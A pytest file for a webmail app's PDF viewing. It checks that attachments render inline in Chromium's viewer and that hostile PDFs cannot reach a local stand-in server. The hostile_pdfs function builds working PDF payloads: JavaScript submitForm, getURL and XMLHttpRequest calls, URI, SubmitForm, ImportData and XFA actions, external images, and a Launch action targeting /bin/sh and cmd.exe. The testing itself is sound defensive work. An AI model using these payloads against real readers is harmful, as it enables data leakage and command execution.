"""A PDF is really seen where one reads, and does nothing else: Chromium's own viewer, its pixels, and what PDFs try."""
import base64
import http.server
import threading

import pytest

from sandbox import documents, people
from webmail import SAMIA, message

RED = (255, 0, 64)
VIEWER = "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/"  # Chromium's PDF viewer


def pdf(catalog=b"", page=b"", *objects) -> bytes:
    """One page painted in one colour, with what a hostile writer adds to its catalog, its page, and behind."""
    paint = b"%.3f %.3f %.3f rg 0 0 595 842 re f" % tuple(part / 255 for part in RED)
    bodies = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
              b"<< /Length %d >>\nstream\n" % len(paint) + paint + b"\nendstream", *objects]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table + \
        b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, len(out))


@pytest.fixture(scope="module")
def outside():
    """Somebody else's server: whoever asks it for something has got out."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_PUT = do_HEAD = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def hostile_pdfs(url: bytes) -> dict:
    """What a PDF may ask of its reader, each on opening."""
    def script(words):
        return b"/OpenAction << /S /JavaScript /JS (" + words + b") >>"

    form = b"/AcroForm << /Fields [] /NeedAppearances true >> "
    return {
        "JavaScript submitForm": pdf(form + script(b"this.submitForm\\('" + url + b"/submit-js'\\)")),
        "JavaScript launchURL": pdf(script(b"app.launchURL\\('" + url + b"/launch', true\\)")),
        "JavaScript getURL": pdf(script(b"this.getURL\\('" + url + b"/get'\\)")),
        "JavaScript mailDoc": pdf(script(b"this.mailDoc\\(false, 'a@b.example'\\)")),
        "JavaScript XMLHttpRequest": pdf(script(b"var x = new XMLHttpRequest\\(\\); x.open\\('GET', '" + url + b"/xhr'\\); x.send\\(\\)")),
        "JavaScript SOAP": pdf(script(b"SOAP.request\\({cURL: '" + url + b"/soap', oRequest: {}}\\)")),
        "URI on opening": pdf(b"/OpenAction << /S /URI /URI (" + url + b"/uri) >>"),
        "SubmitForm on opening": pdf(form + b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (" + url + b"/submit) >> >>"),
        "GoToR": pdf(b"/OpenAction << /S /GoToR /F << /FS /URL /F (" + url + b"/gotor.pdf) >> /D [0 /Fit] >>"),
        "Launch": pdf(b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
        "ImportData": pdf(form + b"/OpenAction << /S /ImportData /F << /FS /URL /F (" + url + b"/import.fdf) >> >>"),
        "page action": pdf(b"", b"/AA << /O << /S /URI /URI (" + url + b"/page) >> >>"),
        "external picture": pdf(b"", b"/Resources << /XObject << /X 5 0 R >> >>",
                                b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 "
                                b"/F << /FS /URL /F (" + url + b"/picture) >> /Length 0 >>\nstream\n\nendstream"),
        "XFA": pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"",
                   b"<< /Length 150 >>\nstream\n<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><event activity='initialize'>"
                   b"<submit target='" + url + b"/xfa'/></event></subform></template></xdp:xdp>\nendstream"),
        "film": pdf(b"", b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] /Movie << /F << /FS /URL /F (" + url +
                    b"/film) >> >> /A true >>]"),
    }


def viewers(b) -> list:
    return [t for t in b.driver.execute_cdp_cmd("Target.getTargets", {})["targetInfos"] if t["url"].startswith(VIEWER)]


def painted(b) -> int:
    """How many pixels of the screen have the page's colour; counted by a canvas of a page that is nobody's."""
    picture = b.driver.get_screenshot_as_base64()
    here = b.driver.current_window_handle
    b.driver.switch_to.new_window("tab")
    count = b.driver.execute_async_script("""
        const [png, wanted, done] = arguments, image = new Image();
        image.onload = () => {
            const canvas = document.createElement("canvas");
            canvas.width = image.width; canvas.height = image.height;
            const pen = canvas.getContext("2d");
            pen.drawImage(image, 0, 0);
            const d = pen.getImageData(0, 0, image.width, image.height).data;
            let n = 0;
            for (let i = 0; i < d.length; i += 4) n += wanted.every((part, k) => Math.abs(d[i + k] - part) < 6);
            done(n);
        };
        image.src = "data:image/png;base64," + png;""", picture, list(RED))
    b.driver.close()
    b.driver.switch_to.window(here)
    return count


def opened(b, subject):
    b.open_message(subject)
    b.click(".part a[data-place=pdf]")
    b.one(".place iframe")
    b.wait(lambda: viewers(b), "the viewer")


def test_a_pdf_is_seen_where_one_reads(browser, mail):
    mail.empty(SAMIA, SAMIA.address)
    mail.put(SAMIA, SAMIA.address, message("a@lab.autre-operateur.mssante.fr", SAMIA.address, "Une pièce en PDF", "x", None,
                                           [("compte rendu.pdf", "application/pdf", pdf())]))
    b = browser()
    b.log_in(SAMIA)
    opened(b, "Une pièce en PDF")
    b.wait(lambda: painted(b) > 20000, "its pixels")
    assert b.driver.current_window_handle and len(b.driver.window_handles) == 1, "in this very page"
    assert b.driver.execute_script("return document.activeElement.matches('.place button')"), "the keyboard follows"
    b.press("\n")
    b.wait(lambda: not b.all(".place"))
    assert b.driver.execute_script("return document.activeElement.matches('a[data-place]')"), "and comes back"


def test_the_pdf_of_a_document_is_seen_without_a_click(browser, mail):
    """Level 1: the PDF first (SC.CDA/VISU.01)."""
    who = people.patient(1)
    moment = "20261120093000"
    cda = documents.cda(who, "11502-2", moment, 1, documents.level1(pdf()))
    mail.empty(SAMIA, SAMIA.address)
    mail.put(SAMIA, SAMIA.address, message("resultats@lab.autre-operateur.mssante.fr", SAMIA.address, "Un document en PDF", "x", None,
                                           [("IHE_XDM.ZIP", "application/zip", documents.xdm(who, "11502-2", moment, 1, {"DOC0001.XML": cda}))]))
    b = browser()
    b.log_in(SAMIA)
    b.click(".row a")
    b.one(".document iframe")
    b.driver.execute_script("document.querySelector('.document iframe').scrollIntoView()")
    b.wait(lambda: viewers(b), "the viewer")
    b.wait(lambda: painted(b) > 20000, "its pixels")


def test_without_scripts_it_opens_in_a_tab(browser, mail):
    mail.empty(SAMIA, SAMIA.address)
    mail.put(SAMIA, SAMIA.address, message("a@lab.autre-operateur.mssante.fr", SAMIA.address, "Une pièce sans scripts", "x", None,
                                           [("compte rendu.pdf", "application/pdf", pdf())]))
    b = browser(scripts=False)
    b.log_in(SAMIA)
    b.go("/")
    b.row("Une pièce sans scripts").find_element("css selector", "a").click()
    b.click(".part a[data-place=pdf]")
    b.wait(lambda: len(b.driver.window_handles) == 2)
    b.wait(lambda: any("/p/" in t["url"] for t in b.driver.execute_cdp_cmd("Target.getTargets", {})["targetInfos"]))


def test_what_a_pdf_asks_of_its_reader_reaches_nobody(browser, mail, outside):
    url = b"http://127.0.0.1:%d" % outside.server_address[1]
    kinds = hostile_pdfs(url)
    mail.empty(SAMIA, SAMIA.address)
    mail.put(SAMIA, SAMIA.address, message("a@lab.autre-operateur.mssante.fr", SAMIA.address, "Ce que des PDF demandent", "x", None,
                                           [(f"{kind}.pdf", "application/pdf", content) for kind, content in kinds.items()]))
    b = browser()
    b.log_in(SAMIA)
    b.open_message("Ce que des PDF demandent")
    for kind in kinds:
        link = b.wait(lambda: next(a for a in b.all(".part a[data-place=pdf]") if a.text == f"{kind}.pdf"))
        b.driver.execute_script("arguments[0].click()", link)
        b.wait(lambda: viewers(b), f"{kind}: the viewer")
        b.wait(lambda: painted(b) > 20000, f"{kind}: it is shown all the same")
        assert b.driver.current_url.startswith(b.url) and len(b.driver.window_handles) == 1, kind
        b.driver.execute_script("document.querySelector('.place button').click()")
        b.wait(lambda: not viewers(b))
    assert not [asked for asked in b.requests() if url.decode() in asked]
    assert outside.seen == []
    b.driver.get(url.decode() + "/temoin")
    assert "/temoin" in outside.seen, "who does get out is seen"
